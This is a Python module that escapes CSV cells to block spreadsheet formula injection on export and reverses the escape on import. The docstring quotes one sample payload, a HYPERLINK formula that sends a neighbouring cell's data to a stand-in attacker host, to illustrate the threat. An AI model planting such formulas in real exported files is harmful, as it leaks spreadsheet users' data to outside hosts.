"""CSV cells a spreadsheet will not run: the escape on export and its exact inverse on import.

A spreadsheet opening a CSV file takes a cell that starts with `=`, `+`, `-` or `@` (and, in some,
a tab or a carriage return before one of them) as a formula, so a subscriber named
`=HYPERLINK("https://evil.example/?x="&A2,"Click")` would run in the operator's spreadsheet. The
OWASP rule against CSV injection is to write such a cell with a leading `'`, which spreadsheets
read as "this is text" and do not show.

A cell that already starts with `'` gets one more, so that import can always strip exactly one
and get the original back: the two functions are inverses for every string. Addresses need this
too: `=1+1@example.com` and `'bob@example.com` are valid (RFC 5322 atext allows `=+-'`).
"""

from __future__ import annotations

QUOTE = "'"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value: str) -> str:
    """`value` as written to a CSV file: with one more leading `'` if it could start a formula
    or already starts with `'`."""
    return QUOTE + value if value.startswith((*FORMULA_STARTS, QUOTE)) else value


def unescape_cell(value: str) -> str:
    """A cell as read from a CSV file, without the one leading `'` that `escape_cell` adds."""
    return value.removeprefix(QUOTE)
